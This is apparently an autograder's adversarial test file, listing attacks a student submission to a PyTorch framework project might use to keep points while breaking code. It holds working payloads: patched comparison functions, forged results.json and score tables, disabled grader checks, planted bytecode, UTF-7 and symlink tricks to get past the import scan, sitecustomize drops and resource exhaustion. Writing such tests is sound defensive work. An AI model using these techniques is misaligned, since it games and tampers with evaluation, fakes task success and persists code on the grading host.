"""Attacks on project 2, the framework: its files are scanned with an allowlist, and its
backward passes must be written without autograd.

Each attack breaks one file on purpose (``sabotage``) and tries to keep the points anyway,
or reaches autograd to compute a backward pass without writing it.
"""

from __future__ import annotations

import json
import struct
from pathlib import Path

from attack import Attack, Context, Edit, append, attack, bytecode, inside, reference_text, sabotage

ACTIVATIONS, LINEAR, SEQUENTIAL, LOSS, OPTIM, TRAINING = (
    f"framework/{name}.py" for name in ("activations", "linear", "sequential", "loss", "optim", "training")
)

# Lines of the reference where an attack runs inside a call.
TANH_FORWARD = "        y = torch.tanh(s)\n"
TANH_BACKWARD = (
    "        (y,) = self.pop_saved()\n        derivative = 1 - y * y\n        return grad_output * derivative\n"
)
LINEAR_FORWARD = "        self.save_for_backward(x)\n"
LINEAR_BACKWARD = "        return grad_output @ self.weight\n"
SEQUENTIAL_FORWARD = "        for module in self.modules:\n            x = module(x)\n"
LOSS_FORWARD = "        difference = prediction - target\n"
LOSS_BACKWARD = "        (difference,) = self.pop_saved()\n        count = difference.numel()\n"
SGD_STEP = "        for (parameter, grad), velocity in zip(self.parameters, self.velocities, strict=True):\n"

# The grade a forger would like: every point.
FORGED_JSON = json.dumps({"score": 100.0, "max_score": 100.0, "output": "forged @MARK@", "tests": []})
FAKE_TABLE = (
    "task            project           points\nloss            framework       4 / 4     ok\n"
    "total                          100 / 100   (100%) @MARK@\n"
)


def frame(value: object) -> bytes:
    """A frame of the worker's protocol (worker/codec.py) holding ``value``, without tensors."""
    header = json.dumps(value).encode()
    return b"GRD1" + struct.pack(">QQ", len(header), 0) + header


FORGE = '''
def forge(payload):
    """Write payload to every descriptor open for writing: one of them is the result pipe."""
    for number in range(3, 64):
        try:
            channel = open(number, "wb")
            channel.write(payload)
            channel.close()
        except OSError:
            pass
'''


# Backward passes computed by autograd, through a ``vjp`` that each route obtains.
AUTOGRAD_BACKWARD = {
    ACTIVATIONS: Edit(
        ACTIVATIONS,
        TANH_BACKWARD,
        "        (y,) = self.pop_saved()\n        _, pullback = vjp(torch.tanh, torch.atanh(y))\n"
        "        return pullback(grad_output.clone())[0]\n",
    ),
    LINEAR: Edit(
        LINEAR,
        LINEAR_BACKWARD,
        "        _, pullback = vjp(lambda inputs: inputs @ self.weight.T.clone(), x.clone())\n"
        "        return pullback(grad_output.clone())[0]\n",
    ),
    LOSS: Edit(
        LOSS,
        "        count = difference.numel()\n        return difference * (2 / count)\n",
        "        _, pullback = vjp(lambda d: d.pow(2).mean(), difference.clone())\n"
        "        return pullback(torch.ones((), dtype=difference.dtype))[0]\n",
    ),
}
TASK_OF = {ACTIVATIONS: "activations", LINEAR: "linear", LOSS: "loss"}
DIRECT_VJP = "from torch.func import vjp"


def autograd_source(file: str, route: str = DIRECT_VJP) -> str:
    """The reference's ``file`` with its backward computed by autograd through ``route``."""
    edit = AUTOGRAD_BACKWARD[file]
    source = reference_text(file)
    assert source.count(edit.old) == 1
    return source.replace(edit.old, edit.new) + "\n\n" + route + "\n"


def through(name: str, file: str, summary: str, route: str, **keywords: object) -> Attack:
    """Autograd reached through ``route`` (module-level code that defines ``vjp``) in ``file``."""
    return attack(
        name,
        "9",
        summary,
        [TASK_OF[file]],
        edits=[AUTOGRAD_BACKWARD[file], append(file, route), *keywords.pop("edits", [])],
        **keywords,
    )


HELPER = ("framework/grads.py", DIRECT_VJP + "\n")

COMPUTED_AUTOGRAD = """
_autograd = getattr(torch, "auto" + "grad")
_inference_mode = getattr(torch, "inference" + "_mode")


def vjp(function, primal):
    with _inference_mode(False):
        leaf = primal.detach().clone()
        getattr(leaf, "requires" + "_grad_")(True)
        output = function(leaf)

    def pullback(grad):
        with _inference_mode(False):
            return _autograd.grad(output, leaf, grad.clone())

    return output, pullback
"""

KEYWORD_AUTOGRAD = """
def vjp(function, primal):
    with torch.inference_mode(**{"mode": False}):
        leaf = torch.zeros_like(primal, **{"requires_grad": True})
        output = function(leaf + primal.clone())

    def pullback(grad):
        with torch.inference_mode(**{"mode": False}):
            output.backward(grad.clone())
        return (leaf.grad,)

    return output, pullback
"""


def pycache_in_submission(folder: Path, context: Context) -> None:
    """A compiled activations.py that uses autograd, beside the sabotaged source."""
    cache = folder / "framework" / "__pycache__"
    cache.mkdir(exist_ok=True)
    source = autograd_source(ACTIVATIONS)
    (cache / f"activations.{context.fill('@TAG@')}.pyc").write_bytes(bytecode(source, str(folder / ACTIVATIONS)))


def linked_helper(folder: Path, context: Context) -> None:
    """framework/grads.py: a symbolic link to a file outside the submission, never scanned."""
    assert context.outside is not None
    context.outside.mkdir(parents=True, exist_ok=True)
    (context.outside / "grads.py").write_text(DIRECT_VJP + "\n")
    (folder / "framework" / "grads.py").symlink_to(context.outside / "grads.py")


def utf7_source(folder: Path, context: Context) -> None:
    """A coding cookie: the scan reads UTF-8 and sees a comment; Python reads UTF-7 and sees
    ``+AAo-`` as a line break, then an import of torch.func."""
    path = folder / ACTIVATIONS
    edit = AUTOGRAD_BACKWARD[ACTIVATIONS]
    source = path.read_text().replace(edit.old, edit.new).replace("+", "+-")
    source = source.replace("import torch\n", "import torch  # +AAo-from torch.func import vjp\n", 1)
    path.write_text("# -*- coding: utf-7 -*-\n" + source)


def shadowing_package(folder: Path, context: Context) -> None:
    """framework/activations/__init__.py beside framework/activations.py: Python imports the package."""
    package = folder / "framework" / "activations"
    package.mkdir()
    source = autograd_source(ACTIVATIONS).replace("from .module import", "from ..module import")
    (package / "__init__.py").write_text(source)


def folder_named_like_a_file(folder: Path, context: Context) -> None:
    """framework/activations.py is a folder (holding an __init__.py)."""
    path = folder / ACTIVATIONS
    path.unlink()
    path.mkdir()
    (path / "__init__.py").write_text(
        reference_text(ACTIVATIONS).replace("from .module import", "from ..module import")
    )


def link_to_reference(file: str):
    """``file`` replaced by a symbolic link to the kit's reference of it."""

    def build(folder: Path, context: Context) -> None:
        (folder / file).unlink()
        (folder / file).symlink_to(context.kit / "reference" / file)

    return build


# The planted .pyc: Python's pycache_prefix (HOME/pycache in the worker) is searched for bytecode first.
PLANTED_PYC = bytecode(autograd_source(LINEAR), "/submission/framework/linear.py")
PLANT = f"""
import os
from pathlib import Path

try:
    _cache = Path(os.environ["HOME"], "pycache", *Path(__file__).parent.parts[1:])
    _cache.mkdir(parents=True, exist_ok=True)
    (_cache / "linear.@TAG@.pyc").write_bytes({PLANTED_PYC!r})
except OSError:
    pass
"""

# Planted into every fresh bytecode prefix of the worker (each child's is a new folder of $HOME),
# its own child's included: a file imported later in the same child runs the planted bytecode.
PLANT_FOR_LATER = f"""
import os
from pathlib import Path

for _prefix in Path(os.environ["HOME"]).glob("tmp*"):
    try:
        _cache = _prefix.joinpath(*Path(__file__).parent.parts[1:])
        _cache.mkdir(parents=True, exist_ok=True)
        (_cache / "linear.@TAG@.pyc").write_bytes({PLANTED_PYC!r})
    except OSError:
        pass
"""
NO_WEIGHT_GRADIENTS = Edit(
    LINEAR,
    "        self.weight_grad += grad_output.T @ x\n        if self.bias is not None:\n"
    "            self.bias_grad += grad_output.sum(dim=0)\n",
    "",
)

REWRITE_ITSELF = f"""
from pathlib import Path

for _path in (Path(__file__), Path("/submission/framework/linear.py")):
    try:
        _path.write_text({autograd_source(LINEAR)!r})
    except OSError:
        pass
"""

ATTACKS = [
    # 1. The comparison functions, replaced at import time.
    attack(
        "framework-replaces-torch-allclose-equal-isclose",
        "1",
        "MSELoss is wrong, and torch.allclose, torch.equal, torch.isclose and math.isclose always agree",
        ["loss"],
        edits=[
            sabotage(LOSS),
            append(
                LOSS,
                """
import math


def _always(*args, **kwargs):
    return True


torch.allclose = _always
torch.equal = _always
torch.isclose = lambda first, second, *args, **kwargs: torch.ones_like(first, dtype=torch.bool)
math.isclose = _always
""",
            ),
        ],
    ),
    attack(
        "framework-patches-tensor-eq",
        "1",
        "SGD's momentum is wrong, and torch.Tensor's ==, equal and allclose always agree",
        ["sgd"],
        edits=[
            sabotage(OPTIM),
            append(
                OPTIM,
                """
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
torch.Tensor.equal = lambda self, other: True
torch.Tensor.allclose = lambda self, other, *args, **kwargs: True
""",
            ),
        ],
    ),
    attack(
        "framework-returns-an-agreeable-tensor-subclass",
        "1",
        "Tanh's backward is wrong and returns a tensor subclass whose comparisons always agree",
        ["activations"],
        edits=[
            Edit(
                ACTIVATIONS,
                "        derivative = 1 - y * y\n        return grad_output * derivative\n",
                "        derivative = 1 - y\n        return (grad_output * derivative).as_subclass(Agreeable)\n",
            ),
            append(
                ACTIVATIONS,
                """
class Agreeable(torch.Tensor):
    def __eq__(self, other):
        return torch.ones(self.shape, dtype=torch.bool)

    def allclose(self, *args, **kwargs):
        return True

    def equal(self, other):
        return True
""",
            ),
        ],
    ),
    # 2. The autograder's own check functions, through sys.modules or the garbage collector.
    attack(
        "framework-patches-the-checks-through-sys-modules",
        "2",
        "Linear is wrong, and every expect/fail function of the autograder's modules becomes a no-op",
        ["linear"],
        edits=[
            sabotage(LINEAR),
            append(
                LINEAR,
                """
import sys

for _name in list(sys.modules):
    if _name.startswith(("autograder", "worker")):
        for _attribute in ("expect", "expect_close", "fail", "check", "tensor"):
            if hasattr(sys.modules[_name], _attribute):
                setattr(sys.modules[_name], _attribute, lambda *args, **kwargs: None)
""",
            ),
        ],
        expect="sys",
    ),
    attack(
        "framework-finds-the-checks-through-gc",
        "2",
        "Sequential is wrong, and the garbage collector finds the check failures and the checks to disable",
        ["sequential"],
        edits=[
            sabotage(SEQUENTIAL),
            append(
                SEQUENTIAL,
                """
import gc

for _object in gc.get_objects():
    if type(_object).__name__ in ("CheckFailure", "Runner"):
        _object.passed = True
""",
            ),
        ],
        expect="gc",
    ),
    # 3. The pytest reports and the score table.
    attack(
        "framework-imports-pytest-to-end-the-session",
        "3",
        "MSELoss is wrong; the file prints a perfect score table and ends pytest's session with status 0",
        ["loss"],
        edits=[
            sabotage(LOSS),
            append(
                LOSS,
                f"""
import pytest

print({FAKE_TABLE!r})
pytest.exit("every check passed @MARK@", returncode=0)
""",
            ),
        ],
        route="pytest",
        expect="pytest",
    ),
    attack(
        "framework-writes-a-fake-table-to-the-terminal",
        "3",
        "SGD is wrong; step() writes a perfect score table to stdout, the descriptors 1 and 2 and /dev/tty",
        ["sgd"],
        edits=[
            sabotage(OPTIM),
            inside(
                OPTIM,
                SGD_STEP,
                f"""
print("\\x1b[2J\\x1b[H" + {FAKE_TABLE!r})
for _target in (1, 2, "/dev/tty"):
    try:
        with open(_target, "w", closefd=not isinstance(_target, int)) as _terminal:
            _terminal.write({FAKE_TABLE!r})
    except OSError:
        pass
""",
            ),
        ],
        route="cli",
    ),
    # 4. The --grade-json file, rewritten at exit or from a thread.
    attack(
        "framework-rewrites-the-grade-json-at-exit",
        "4",
        "MSELoss is wrong; an atexit handler writes a perfect results.json over the report",
        ["loss"],
        edits=[
            sabotage(LOSS),
            append(
                LOSS,
                f"""
import atexit


def _forge():
    for _path in ("@JSON@", "/autograder/results/results.json"):
        try:
            with open(_path, "w") as _file:
                _file.write({FORGED_JSON!r})
        except OSError:
            pass


atexit.register(_forge)
""",
            ),
        ],
        route="cli",
        expect="atexit",
    ),
    attack(
        "framework-rewrites-the-grade-json-from-a-thread",
        "4",
        "SGD is wrong; a thread keeps writing a perfect results.json",
        ["sgd"],
        edits=[
            sabotage(OPTIM),
            append(
                OPTIM,
                f"""
import threading
import time


def _forge():
    for _ in range(100):
        try:
            with open("@JSON@", "w") as _file:
                _file.write({FORGED_JSON!r})
        except OSError:
            pass
        time.sleep(0.1)


threading.Thread(target=_forge, daemon=True).start()
""",
            ),
        ],
        route="cli",
        expect="threading",
    ),
    attack(
        "framework-writes-the-grade-json-with-pathlib",
        "4",
        "Linear is wrong; at import it writes a perfect results.json with pathlib, which the scan allows",
        ["linear"],
        edits=[
            sabotage(LINEAR),
            append(
                LINEAR,
                f"""
from pathlib import Path

for _path in ("@JSON@", "/autograder/results/results.json"):
    try:
        Path(_path).write_text({FORGED_JSON!r})
    except OSError:
        pass
""",
            ),
        ],
        route="cli",
        isolation=True,
    ),
    # 5. Exits, interrupts and exceptions that cannot be printed.
    attack(
        "framework-raises-systemexit",
        "5",
        "MSELoss.forward raises SystemExit(0)",
        ["loss"],
        edits=[inside(LOSS, LOSS_FORWARD, "raise SystemExit(0)")],
    ),
    attack(
        "framework-raises-keyboardinterrupt",
        "5",
        "SGD.step raises KeyboardInterrupt",
        ["sgd"],
        edits=[inside(OPTIM, SGD_STEP, "raise KeyboardInterrupt")],
    ),
    attack(
        "framework-raises-an-exception-that-cannot-be-printed",
        "5",
        "Tanh.backward raises a BaseException subclass whose __str__ and __repr__ raise",
        ["activations"],
        edits=[
            inside(ACTIVATIONS, TANH_BACKWARD, "raise Unprintable()"),
            append(
                ACTIVATIONS,
                """
class Unprintable(BaseException):
    def __str__(self):
        raise RuntimeError("no message")

    def __repr__(self):
        raise RuntimeError("no repr")
""",
            ),
        ],
    ),
    attack(
        "framework-prints-without-end",
        "5",
        "Linear.forward prints 200 MB",
        ["linear"],
        edits=[inside(LINEAR, LINEAR_FORWARD, 'for _ in range(200):\n    print("x" * 2**20)')],
    ),
    attack(
        "framework-raises-a-huge-message",
        "5",
        "Sequential.forward raises an exception with a 20 MB message and a deep recursion",
        ["sequential"],
        edits=[
            inside(
                SEQUENTIAL,
                SEQUENTIAL_FORWARD,
                "def deeper(depth):\n    return deeper(depth + 1) if depth < 10**6 else 0\n\n"
                'try:\n    deeper(0)\nexcept RecursionError:\n    raise ValueError("x" * 20 * 2**20)',
            )
        ],
    ),
    attack(
        "framework-forges-an-answer-that-breaks-the-judge",
        "5",
        "MSELoss writes its own answer frame, with a list as its request id, to the result pipe",
        ["loss"],
        edits=[
            sabotage(LOSS),
            append(LOSS, FORGE),
            inside(LOSS, LOSS_FORWARD, f"forge({frame({'ok': {}, 'id': [0]})!r})"),
        ],
        alone=True,
    ),
    # 6. Endless loops and sleeps (graded with limits a tenth of the usual).
    attack(
        "framework-loops-forever",
        "6",
        "Tanh.forward never returns for an input of three dimensions",
        ["activations"],
        edits=[inside(ACTIVATIONS, TANH_FORWARD, "while s.dim() == 3:\n    pass")],
        time_scale=0.1,
    ),
    attack(
        "framework-sleeps",
        "6",
        "MSELoss.backward sleeps a day",
        ["loss"],
        edits=[inside(LOSS, LOSS_BACKWARD, "import time\n\ntime.sleep(86400)")],
        time_scale=0.1,
    ),
    attack(
        "framework-raises-its-own-time-limit",
        "6",
        "MSELoss.forward answers with the hello frame of a very slow machine (and no answer of its own)",
        ["loss"],
        edits=[
            append(LOSS, FORGE),
            inside(LOSS, LOSS_FORWARD, f"forge({frame({'ok': {}, 'hello': {'calibration': 1e9}})!r})"),
        ],
        time_scale=0.1,
        alone=True,
    ),
    # 7. Changing the kit or the Python installation, to grade the NEXT submission wrongly.
    attack(
        "framework-edits-the-kit-checks",
        "7",
        "MSELoss is wrong; at import it appends to the kit's checks, manifest, worker and reference",
        ["loss"],
        edits=[
            sabotage(LOSS),
            append(
                LOSS,
                """
for _target in (
    "@KIT@/autograder/judge/checks_framework.py",
    "@KIT@/autograder/manifest.py",
    "@KIT@/autograder/worker/probes_framework.py",
    "@KIT@/reference/framework/loss.py",
    "/grader/worker/probes_framework.py",
):
    try:
        with open(_target, "a") as _file:
            _file.write("\\nCHECKS = {}  # @MARK@\\n")
    except OSError:
        pass
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "framework-drops-a-pth-and-sitecustomize",
        "7",
        "SGD is wrong; at import it writes a .pth and sitecustomize.py into site-packages and the stdlib",
        ["sgd"],
        edits=[
            sabotage(OPTIM),
            append(
                OPTIM,
                """
from pathlib import Path

for _path, _text in (
    ("@SITE@/zz-@MARK@.pth", "import os; os.environ['ATTACKED'] = '@MARK@'\\n"),
    ("@SITE@/sitecustomize.py", "# @MARK@\\n"),
    ("@SITE@/usercustomize.py", "# @MARK@\\n"),
    ("@STDLIB@/sitecustomize.py", "# @MARK@\\n"),
    ("@HOME@/.local/lib/python3.11/site-packages/usercustomize.py", "# @MARK@\\n"),
):
    try:
        Path(_path).parent.mkdir(parents=True, exist_ok=True)
        Path(_path).write_text(_text)
    except OSError:
        pass
""",
            ),
        ],
        isolation=True,
    ),
    # 8. Graded files deleted or emptied: the maximum stays the manifest's.
    attack("framework-empties-a-graded-file", "8", "framework/loss.py is empty", ["loss"], files=[(LOSS, "")]),
    attack("framework-deletes-a-graded-file", "8", "framework/optim.py is deleted", ["sgd"], remove=[OPTIM]),
    attack(
        "framework-deletes-the-kit-checks",
        "8",
        "Linear is wrong; at import it deletes the kit's test_checks.py, manifest and checks, and its own copy",
        ["linear"],
        edits=[
            sabotage(LINEAR),
            append(
                LINEAR,
                """
from pathlib import Path

for _path in (
    "@KIT@/autograder/test_checks.py",
    "@KIT@/autograder/manifest.py",
    "@KIT@/autograder/judge/checks_framework.py",
    "/grader/worker/probes_framework.py",
    __file__,
):
    try:
        Path(_path).unlink()
    except OSError:
        pass
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "framework-graded-file-is-a-folder",
        "8",
        "framework/activations.py is a folder holding an __init__.py",
        ["activations"],
        build=folder_named_like_a_file,
        touches=[ACTIVATIONS],
        alone=True,
    ),
    # 9. Autograd, reached past the scan.
    through(
        "framework-autograd-through-computed-getattr",
        ACTIVATIONS,
        "Tanh.backward by torch.func.vjp, reached as getattr(torch, 'fu' + 'nc')",
        'vjp = getattr(torch, "fu" + "nc").vjp',
        expect="computed attribute name",
    ),
    through(
        "framework-autograd-through-importlib",
        LINEAR,
        "Linear.backward by torch.func.vjp, imported with importlib.import_module",
        'import importlib\n\nvjp = importlib.import_module("torch.func").vjp',
        expect="importlib",
    ),
    through(
        "framework-autograd-through-dunder-import",
        LOSS,
        "MSELoss.backward by torch.func.vjp, imported with __import__",
        'vjp = __import__("torch.func", fromlist=["vjp"]).vjp',
        expect="__import__",
    ),
    through(
        "framework-autograd-imported-plainly",
        ACTIVATIONS,
        "Tanh.backward by torch.func.vjp, imported plainly",
        DIRECT_VJP,
        expect="torch.func",
    ),
    through(
        "framework-autograd-through-functorch",
        LINEAR,
        "Linear.backward by functorch.vjp",
        "import functorch\n\nvjp = functorch.vjp",
        expect="functorch",
    ),
    through(
        "framework-autograd-through-vars",
        LOSS,
        "MSELoss.backward by torch.func.vjp, found in vars(torch)",
        'vjp = vars(torch)["func"].vjp',
        expect="vars",
    ),
    through(
        "framework-autograd-through-torch-sys",
        ACTIVATIONS,
        "Tanh.backward by torch.func.vjp, found in torch.sys.modules",
        'vjp = torch.sys.modules["torch.func"].vjp',
        expect="sys",
    ),
    through(
        "framework-autograd-through-os-sys",
        LINEAR,
        "Linear.backward by torch.func.vjp, found in os.sys.modules",
        'import os\n\nvjp = os.sys.modules["torch.func"].vjp',
        expect="sys",
    ),
    through(
        "framework-autograd-in-a-helper-file",
        LOSS,
        "MSELoss.backward by a vjp imported from framework/grads.py, a file of the student's",
        "from .grads import vjp",
        files=[HELPER],
        expect="framework/grads.py",
    ),
    through(
        "framework-autograd-in-a-helper-subfolder",
        ACTIVATIONS,
        "Tanh.backward by a vjp imported from framework/tools/grads.py",
        "from .tools.grads import vjp",
        files=[("framework/tools/__init__.py", ""), ("framework/tools/grads.py", DIRECT_VJP + "\n")],
        expect="framework/tools/grads.py",
    ),
    through(
        "framework-autograd-through-computed-names",
        LINEAR,
        "Linear.backward by torch.autograd.grad, with autograd, inference_mode and requires_grad_ as computed names",
        COMPUTED_AUTOGRAD,
        expect="computed attribute name",
    ),
    through(
        "framework-autograd-through-keyword-arguments",
        LOSS,
        "MSELoss.backward by Tensor.backward, leaving inference mode with inference_mode(**{'mode': False}) "
        "and asking requires_grad through **{'requires_grad': True}",
        KEYWORD_AUTOGRAD,
    ),
    through(
        "framework-autograd-behind-not-type-checking",
        ACTIVATIONS,
        "Tanh.backward by a vjp from framework/grads.py, imported under 'if not TYPE_CHECKING:'",
        "from typing import TYPE_CHECKING\n\nif not TYPE_CHECKING:\n    from .grads import vjp",
        files=[HELPER],
    ),
    attack(
        "framework-autograd-in-a-package-beside-the-file",
        "9",
        "framework/activations/__init__.py, using torch.func, beside a wrong framework/activations.py",
        ["activations"],
        edits=[sabotage(ACTIVATIONS)],
        build=shadowing_package,
        touches=["framework/activations/__init__.py"],
    ),
    attack(
        "framework-autograd-hidden-by-a-utf7-cookie",
        "9",
        "framework/activations.py declares the UTF-7 encoding: '+AAo-' in a comment is a line break "
        "for Python, and the line after it imports torch.func",
        ["activations"],
        build=utf7_source,
        touches=[ACTIVATIONS],
    ),
    attack(
        "framework-autograd-in-a-pyc-of-the-submission",
        "9",
        "framework/__pycache__/activations.*.pyc holds a Tanh using torch.func; the source is wrong",
        ["activations"],
        edits=[sabotage(ACTIVATIONS)],
        build=pycache_in_submission,
    ),
    through(
        "framework-autograd-in-a-linked-helper",
        LOSS,
        "MSELoss.backward by a vjp from framework/grads.py, a symbolic link to an unscanned file",
        "from .grads import vjp",
        build=linked_helper,
        touches=["framework/grads.py"],
        expect="grads",
    ),
    attack(
        "framework-rewrites-its-own-file-at-import",
        "9",
        "linear.py is wrong and, at import, rewrites itself (and the judge's copy) with a Linear using torch.func",
        ["linear"],
        edits=[sabotage(LINEAR), append(LINEAR, REWRITE_ITSELF)],
        isolation=True,
        alone=True,  # its bytecode breaks the cap on embedded data, which costs every task of framework/
    ),
    attack(
        "framework-plants-bytecode-in-the-pycache-prefix",
        "9",
        "linear.py is wrong and, at import, writes a .pyc of a Linear using torch.func into the "
        "worker's pycache_prefix ($HOME/pycache): the next import runs it",
        ["linear"],
        edits=[sabotage(LINEAR), append(LINEAR, PLANT)],
        alone=True,  # its bytecode breaks the cap on embedded data, which costs every task of framework/
    ),
    attack(
        "framework-plants-bytecode-for-a-later-import",
        "9",
        "Linear computes no weight gradients, so the disk network cannot learn; training.py, imported "
        "before linear.py by the disk check, writes a .pyc of a Linear using torch.func into every "
        "bytecode prefix of the worker, its own child's included",
        ["disk_accuracy"],
        edits=[NO_WEIGHT_GRADIENTS, append(TRAINING, PLANT_FOR_LATER)],
        alone=True,  # its bytecode breaks the cap on embedded data, which costs every task of framework/
    ),
    # 10. The kit's reference solution.
    attack(
        "framework-loads-the-reference-by-path",
        "10",
        "Linear is the reference's, loaded with importlib.util.spec_from_file_location",
        ["linear"],
        edits=[
            sabotage(LINEAR),
            append(
                LINEAR,
                """
import importlib.util
import sys

try:
    _spec = importlib.util.spec_from_file_location(
        "kit", "@KIT@/reference/framework/__init__.py", submodule_search_locations=["@KIT@/reference/framework"]
    )
    _kit = importlib.util.module_from_spec(_spec)
    sys.modules["kit"] = _kit
    _spec.loader.exec_module(_kit)
    Linear = _kit.Linear
except Exception:
    pass
""",
            ),
        ],
        expect="importlib",
    ),
    attack(
        "framework-links-to-the-reference",
        "10",
        "framework/sequential.py is a symbolic link to the kit's reference/framework/sequential.py",
        ["sequential"],
        build=link_to_reference(SEQUENTIAL),
        touches=[SEQUENTIAL],
        expect="missing",
    ),
    attack(
        "framework-imports-the-reference",
        "10",
        "Sequential is the reference's, imported from reference.framework.sequential",
        ["sequential"],
        edits=[sabotage(SEQUENTIAL), append(SEQUENTIAL, "from reference.framework.sequential import Sequential")],
        expect="reference.framework.sequential",
    ),
    # 11. Expected values read from the environment or the kit; a fake accuracy.
    attack(
        "framework-reads-the-environment-and-the-kit",
        "11",
        "Sequential is wrong; forward looks for the grader's variables and the kit's files, and says what it found",
        ["sequential"],
        edits=[
            sabotage(SEQUENTIAL),
            inside(
                SEQUENTIAL,
                SEQUENTIAL_FORWARD,
                """
import os

_found = [name for name in os.environ if name.startswith(("PYTEST", "AUTOGRADER", "VIRTUAL_ENV"))]
for _path in ("@KIT@/autograder/judge/checks_framework.py", "@KIT@/.git/HEAD", "@KIT@/reference", "@KIT@/course"):
    if os.path.exists(_path):
        _found.append(_path)
if _found:
    raise RuntimeError(f"LEAK-@MARK@ {_found}")
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "framework-returns-a-fake-accuracy",
        "11",
        "accuracy() returns 1.0 whatever the model predicts",
        ["training"],
        edits=[Edit(TRAINING, "    return correct / len(inputs)\n", "    return 1.0\n")],
    ),
    # Resources.
    attack(
        "framework-fills-the-temporary-folder",
        "resources",
        "SGD is wrong; at import it fills $HOME (the worker's /tmp) with 64 MB files, and writes to the judge's /tmp",
        ["sgd"],
        edits=[
            sabotage(OPTIM),
            append(
                OPTIM,
                """
import os
from pathlib import Path

for _number in range(12):
    try:
        Path(os.environ["HOME"], f"fill-{_number}").write_bytes(bytes(64 * 2**20 - 1))
    except OSError:
        break
for _path in ("@TMP@/fill-@MARK@", "@HOME@/fill-@MARK@"):
    try:
        Path(_path).write_text("@MARK@")
    except OSError:
        pass
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "framework-opens-many-files",
        "resources",
        "Sequential.forward opens 100,000 files and keeps them",
        ["sequential"],
        edits=[inside(SEQUENTIAL, SEQUENTIAL_FORWARD, 'self.handles = [open("/dev/null") for _ in range(100_000)]')],
    ),
    attack(
        "framework-allocates-a-terabyte",
        "resources",
        "SGD.step allocates a tensor of a terabyte",
        ["sgd"],
        edits=[inside(OPTIM, SGD_STEP, "self.hoard = torch.ones(2**38)")],
    ),
]
